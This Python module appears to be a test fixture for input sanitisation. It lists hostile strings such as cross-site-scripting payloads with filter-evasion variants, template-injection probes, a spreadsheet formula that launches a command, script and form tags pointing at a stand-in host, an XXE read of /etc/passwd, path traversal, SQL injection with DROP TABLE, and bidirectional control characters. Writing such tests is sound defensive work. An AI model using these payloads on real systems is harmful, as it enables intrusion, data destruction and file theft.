"""Text that would act where it is not made safe: script, markup, what hides or reorders, formulas, paths."""

from __future__ import annotations

SCRIPT = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//x.example>", "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]>", "<?php x ?>", "<base href=//x.example>",
    "<meta http-equiv=refresh content=0;url=//x.example>", "<iframe srcdoc='<script>1</script>'>", "&lt;script&gt;", "&#60;script&#62;", "&amp;", "{{ 7*7 }}",
    "{% raw %}", "{# #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "<math><mi//xlink:href='data:x,<script>1</script>'>", "\\u003cscript\\u003e", "<bdi>", "</bdi></p></main>",
    "javascript:alert(1)", "JAVASCRIPT:alert(1)//", "java\tscript:alert(1)", "data:text/html,<script>1</script>", "vbscript:x", "https://x.example/\" onclick=\"alert(1)",
    "//x.example/", "https://good.example@x.example/",
]  # fmt: skip
MARKUP = [
    "](http://x.example/)", "[click](javascript:alert(1))", "![i](http://x.example/i.png)", "<http://x.example/>", "[a]: http://x.example/", "http://x.example/ ",
    "www.x.example ", "mailto:a@x.example ", "@everyone ", "#123 ", "GH-1 ", "`code`", "```\ncode\n```", "``", "**bold**", "__bold__", "*i*", "_i_", "~~gone~~", "| a | b |", "|", "\\|", "\\",
    "\\\\](http://x.example/)", "# Heading", "\n# Heading\n", "\n\n---\n\n", "===", "- item", "1. item", "> quote", "\n\n    code", "[x] ", "[/b]", "[bold]x[/bold]", "[link=http://x.example]x[/link]",
    "$$x$$", "$`x`$", ":smile:", "[^1]", "\r\n# Heading", "\u2028# Heading", "<details>", "&nbsp;", "&#91;x&#93;&#40;http://x.example&#41;",
]  # fmt: skip
BIDI = [
    "\u202e", "\u202d\u202c", "\u2066\u2067\u2068\u2069", "\u200f\u200e", "\u202etxt.exe", "\u061c", "\u200b\u2060\ufeff", "\u00ad", "\ud800", "\udfff\ud800", "\x00", "\x1b[31m", "\x1b]8;;http://x.example\x07",
    "\x9b31m", "\x85", "\x7f", "\ufffe", "\U000e0041", "שלום", "مرحبا", "e\u0301" * 30, "🏴\u200d☠️", "\u2028\u2029", "\r", "\n", "\t",
]  # fmt: skip
FORMULA = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","x")', "=IMPORTXML(1)", "＝1+1", "＋1", "－1", "＠x", '"=1+1', "'=1+1",
    ';=1+1', ",=1+1", '",=1+1', '"\r\n=1+1', "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", "\x00=1+1", "%0A=1+1", "|=1+1", "\u202e=1+1",
]  # fmt: skip
PATHS = [
    "../../etc/passwd",
    "..\\..\\x",
    "CON",
    "NUL",
    "x" * 5000,
    "AND 1=1; DROP TABLE articles;--",
    "' OR 1=1--",
    "NEAR(",
    '"*',
]
# More of each, in the spellings that filters miss.
DISGUISED = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0b>alert(1)</script>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=//x.example>", "<link rel=stylesheet href=//x.example/x.css>",
    "<style>@import '//x.example/x.css'</style>", "<style>*{display:none}</style>", "<form action=//x.example><button>go</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<area href=javascript:alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<frameset onload=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href=javascript:alert(1)><text y=1em>x</text></a>", "<svg><style><img src=x onerror=alert(1)></style>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "<!--[if IE]><script>alert(1)</script><![endif]-->", "--!><script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "\" style=\"background:url(//x.example)\" x=\"", "' style='position:fixed;inset:0' x='", "`onmouseover=alert(1)`",
    "\" accesskey=\"x\" onclick=\"alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)", "java\nscript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://x.example/1", "file:///etc/passwd", "view-source:javascript:alert(1)", "\u2067\u202e\u2066</bdi>", "{{constructor.constructor('alert(1)')()}}",
    "{{ self.__init__.__globals__ }}", "__proto__", "); alert(1); (", "\\\"; alert(1); //",
]  # fmt: skip
HOSTILE = SCRIPT + DISGUISED + MARKUP + BIDI + FORMULA + PATHS
